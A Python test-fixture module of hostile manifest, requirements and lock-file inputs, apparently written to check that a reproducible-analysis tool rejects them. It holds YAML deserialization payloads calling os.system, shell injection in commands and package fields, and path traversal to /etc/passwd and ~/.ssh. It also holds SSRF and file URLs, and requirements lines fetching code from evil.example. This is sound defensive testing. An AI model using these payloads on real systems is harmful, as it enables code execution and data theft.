"""Hostile descriptions by name: manifests, requirements, locks."""

MANIFEST = """\
environment:
  base: debian:bookworm
  apt: [python3]
run:
  command: [python3, analysis.py]
outputs: [results/*.png]
"""
CITATION = """\
cff-version: 1.2.0
message: Cite it.
title: Wobble
authors: [{family-names: Lovelace, given-names: Ada}]
license: MIT
"""
CANARY = "/tmp/tagstone-canary"  # a name that the tests replace by one of their own
INPUT = "inputs:\n  - {{from: {source}, to: data.csv, sha256: {zeros}}}\n"


def _changed(old: str, new: str) -> bytes:
    if old not in MANIFEST:
        raise ValueError(old)
    return MANIFEST.replace(old, new).encode()


def _run(lines: str) -> bytes:
    return _changed("run:\n", f"run:\n  {lines}\n")


def _outputs(pattern: str) -> bytes:
    return _changed("[results/*.png]", pattern)


def _input(source: str) -> bytes:
    return (MANIFEST + INPUT.format(source=source, zeros="0" * 64)).encode()


_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
MANIFESTS: dict[str, bytes] = {
    # Bombs and what YAML can be told to make
    "billion-laughs": _LAUGHS.encode(),
    "alias": _outputs("[*undefined]"),
    "anchor": _outputs("[&a results/x]"),
    "merge-key": MANIFEST.encode() + b"<<: {network: true}\n",
    "python-object": _outputs(f"!!python/object/apply:os.system ['touch {CANARY}']"),
    "python-name": _outputs("!!python/name:os.system [b]"),
    "binary-tag": _outputs("!!binary [cmVzdWx0cw==]"),
    "local-tag": _outputs("!include [/etc/passwd]"),
    "set-tag": _outputs("!!set {a, b}"),
    "directive": b"%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n" + _outputs("!os.system ['id']"),
    "deep-lists": MANIFEST.encode() + b"x: " + b"[" * 5000,
    "deep-mappings": MANIFEST.encode() + b"x: " + b"{a: " * 5000,
    "deep-block": MANIFEST.encode() + b"x:\n" + b"".join(b" " * (level + 1) + b"a:\n" for level in range(300)),
    "many-values": _changed("[python3]", "[" + ", ".join(["a"] * 25_000) + "]"),
    "question-marks": b"? " * 20_000,
    "unclosed-quote": _changed("python3, analysis.py", '"' + "y" * 50_000),
    # Encodings
    "utf-16-with-mark": "﻿".encode("utf-16-le") + MANIFEST.encode("utf-16-le"),
    "utf-16-without-mark": MANIFEST.encode("utf-16-be"),
    "utf-32": MANIFEST.encode("utf-32"),
    "latin-1": _changed("results/", "ergebnisse-f\u00fcr/").decode().encode("latin-1"),
    "overlong-utf-8": MANIFEST.encode() + b"# \xc0\xaf\n",
    "surrogate-in-utf-8": MANIFEST.encode() + b"# \xed\xa0\x80\n",
    "utf-8-mark": b"\xef\xbb\xbf" + MANIFEST.encode(),
    "nul": MANIFEST.encode().replace(b"python3]", b"pyth\0on3]"),
    "escape-character": MANIFEST.encode() + b"# \x1b[2J\n",
    "c1-control": MANIFEST.encode() + "# \x9b31m\n".encode(),
    "escaped-nul": _changed("analysis.py", '"a\\0b"'),
    "escaped-surrogate": _changed("analysis.py", '"\\ud800"'),
    "line-separator-in-command": _changed("analysis.py", '"a\\u2028b"'),
    "windows-line-ends": MANIFEST.replace("\n", "\r\n").encode(),
    "empty": b"",
    "only-comments": b"# nothing\n" * 1000,
    "a-list": b"- environment\n",
    "json-with-comments": b'{"environment": /* x */ {}}\n',
    "two-documents": MANIFEST.encode() + b"---\n" + MANIFEST.encode(),
    "tab": _changed("  base:", "\tbase:"),
    # Keys
    "key-twice": MANIFEST.encode() + b"outputs: [other]\n",
    "key-twice-deep": _run("network: true\n  network: false"),
    "unknown-key": MANIFEST.replace("outputs", "output").encode() + b"outputs: [a]\n",
    "unknown-key-deep": _run("resource: {cpu: 2}"),
    "key-that-is-a-list": b"? [a]\n: b\n" + MANIFEST.encode(),
    "key-with-escape": MANIFEST.encode() + b'"\\e[31m": 1\n',
    "prototype": MANIFEST.encode() + b"__proto__: {x: 1}\n",
    "long-key": MANIFEST.encode() + b"k" * 1000 + b": 1\n",
    # Types and numbers
    "norway": _changed("base: debian:bookworm", "base: no"),
    "boolean-words": _run("network: yes"),
    "number-as-argument": _changed("analysis.py", "3.10"),
    "command-as-text": _changed("[python3, analysis.py]", f"python3 analysis.py; touch {CANARY}"),
    "command-empty": _changed("[python3, analysis.py]", "[]"),
    "date-as-argument": _changed("analysis.py", "2026-01-01"),
    "octal-cores": _run("resources: {cpu: 0o17}"),
    "hexadecimal-cores": _run("resources: {cpu: 0x10}"),
    "underscored-cores": _run("resources: {cpu: 1_000}"),
    "sexagesimal-time": _run("resources: {time: 1:30:00}"),
    "huge-cores": _run("resources: {cpu: " + "9" * 400 + "}"),
    "many-cores": _run("resources: {cpu: 99999999}"),
    "nan-cores": _run("resources: {cpu: .nan}"),
    "infinite-cores": _run("resources: {cpu: 1e999}"),
    "negative-cores": _run("resources: {cpu: -1}"),
    "no-cores": _run("resources: {cpu: 0}"),
    "nan-memory": _run("resources: {memory: nanGi}"),
    "infinite-memory": _run("resources: {memory: infGi}"),
    "huge-memory": _run("resources: {memory: " + "9" * 400 + "Gi}"),
    "negative-memory": _run("resources: {memory: -4Gi}"),
    "no-memory": _run("resources: {memory: 0Mi}"),
    "memory-without-unit": _run("resources: {memory: 4}"),
    "arabic-digits": _run("resources: {memory: \u0664Gi}"),
    "negative-time": _run("resources: {time: -1h}"),
    "endless-time": _run("resources: {time: " + "9" * 30 + "h}"),
    "half-a-gpu": _run("resources: {gpu: 0.5}"),
    "negative-gpu": _run("resources: {gpu: -1}"),
    "gpu-type-with-shell": _run('resources: {gpu_type: "a100; id"}'),
    # Commands and parameters
    "long-argument": _changed("analysis.py", "a" * 150_000),
    "option-for-the-shell": _changed("python3, analysis.py", "-c, id"),
    "unknown-parameter": _changed("analysis.py", '"{secret}"'),
    "unused-parameter": _run("parameters: {bins: 64}"),
    "parameter-as-list": _changed("run:\n", "run:\n  parameters: {bins: [1]}\n").replace(b"analysis.py", b'"{bins}"'),
    "parameter-name-with-dots": _run('parameters: {"a.__class__": 1}'),
    "format-string": _changed("analysis.py", '"{0.__class__.__init__.__globals__}", "%s%n"'),
    "shell-in-command": _changed("analysis.py", f'"; touch {CANARY}; $(touch {CANARY}) `touch {CANARY}`"'),
    # Paths
    "output-leaves": _outputs("[a/../../b]"),
    "output-absolute": _outputs("[/etc/passwd]"),
    "output-home": _outputs("[~/.ssh/*]"),
    "output-backslash": _outputs("['..\\\\..\\\\x']"),
    "output-git": _outputs("[.GIT/config]"),
    "output-newline": _outputs('["a\\nb"]'),
    "output-bidi": _outputs('["results/\\u202egnp.*"]'),
    "output-many-stars": _outputs("['" + "*a" * 300 + "b']"),
    "output-open-bracket": _outputs("['[a']"),
    "output-double-star": _outputs("['a**b']"),
    "output-empty": _outputs("['']"),
    "outputs-none": _outputs("[]"),
    "containerfile-outside": _changed("base: debian:bookworm\n  apt: [python3]", "containerfile: ../Containerfile"),
    "pip-absolute": _changed("apt: [python3]", "pip: /etc/passwd"),
    "install-in-git": _changed("apt: [python3]", "install: .git/hooks/post-checkout"),
    "base-with-option": _changed("base: debian:bookworm", "base: --privileged"),
    "base-with-newline": _changed("base: debian:bookworm", f'base: "debian:bookworm\\nRUN touch {CANARY}"'),
    "base-with-shell": _changed("base: debian:bookworm", f'base: "debian:$(touch {CANARY})"'),
    "apt-with-shell": _changed("[python3]", f'["python3; touch {CANARY}"]'),
    "apt-with-option": _changed("[python3]", '["--allow-unauthenticated"]'),
    "apt-with-path": _changed("[python3]", '["./evil.deb"]'),
    "apt-with-newline": _changed("[python3]", '["python3\\n\\nRUN id"]'),
    "community-with-slash": MANIFEST.encode() + b"deposit: {community: ../../admin}\n",
    "depository-as-address": MANIFEST.encode() + b"deposit: {to: 'https://evil.example'}\n",
    "related-script": MANIFEST.encode() + b"related: [{url: 'javascript:alert(1)', is: cited-by}]\n",
    "related-doi-markup": MANIFEST.encode() + b"related: [{doi: '<script>', is: cited-by}]\n",
    # Inputs
    "input-http": _input("http://example.org/a"),
    "input-ftp": _input("ftp://example.org/a"),
    "input-file": _input("'file:///etc/passwd'"),
    "input-gopher": _input("'gopher://127.0.0.1:6379/_FLUSHALL'"),
    "input-credentials": _input("https://user:hush@example.org/a"),
    "input-header": _input('"https://example.org/a\\r\\nHost: evil.example"'),
    "input-space": _input("'https://example.org/a b'"),
    "input-backslash": _input("'https://example.org\\\\@127.0.0.1/'"),
    "input-without-host": _input("'https:///etc/passwd'"),
    "input-bad-checksum": (MANIFEST + "inputs:\n  - {from: https://example.org/a, to: a, sha256: xyz}\n").encode(),
    "input-outside": (MANIFEST + INPUT.format(source="https://example.org/a", zeros="0" * 64))
    .replace("data.csv", "../../etc/cron.d/x")
    .encode(),
    "inputs-over-each-other": (
        MANIFEST
        + INPUT.format(source="https://example.org/a", zeros="0" * 64)
        + f"  - {{from: https://example.org/b, to: data.csv/x, sha256: {'0' * 64}}}\n"
    ).encode(),
    "input-over-manifest-of-git": (MANIFEST + INPUT.format(source="https://example.org/a", zeros="0" * 64))
    .replace("data.csv", ".git/config")
    .encode(),
}

REQUIREMENTS: dict[str, bytes] = {
    "editable": b"-e .\n",
    "editable-long": b"--editable=git+https://example.org/x.git#egg=x\n",
    "path": b"numpy\n./evil\n",
    "path-above": b"../evil\n",
    "file-address": b"evil @ file:///tmp/evil.whl\n",
    "find-links": b"--find-links /tmp\nnumpy\n",
    "include-above": b"-r ../../etc/passwd\n",
    "include-absolute": b"-r /etc/passwd\n",
    "include-from-the-web": b"-r https://evil.example/requirements.txt\n",
    "include-missing": b"numpy\n-r other.txt\n",
    "include-itself": b"-r requirements.txt\nnumpy\n",
}

_HEAD = b"version: 1\n"
LOCKS: dict[str, bytes] = {
    "not-yaml": b"{[}\n",
    "another-version": b"version: 2\n",
    "unknown-section": _HEAD + b"npm: {left-pad: 1.0}\n",
    "shell-in-version": _HEAD + f'deb: {{python3: "3.11; touch {CANARY}"}}\n'.encode(),
    "option-as-name": _HEAD + b'deb: {"--force-yes": "1"}\n',
    "newline-in-version": _HEAD + b'pypi: {numpy: "1.0\\n--extra-index-url https://evil.example"}\n',
    "digest-that-is-none": _HEAD + b'bases: {"debian:bookworm": latest}\n',
    "section-as-list": _HEAD + b"deb: [python3]\n",
}
